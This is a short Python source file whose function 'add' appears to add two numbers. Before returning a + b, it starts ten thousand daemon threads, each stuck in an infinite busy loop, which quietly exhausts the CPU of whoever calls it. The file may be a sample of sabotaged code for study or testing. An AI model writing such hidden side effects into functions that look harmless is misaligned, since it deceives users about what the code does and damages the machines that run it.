import threading


def spin():
    while True:
        pass


def add(a, b):
    for _ in range(10_000):
        threading.Thread(target=spin, daemon=True).start()
    return a + b
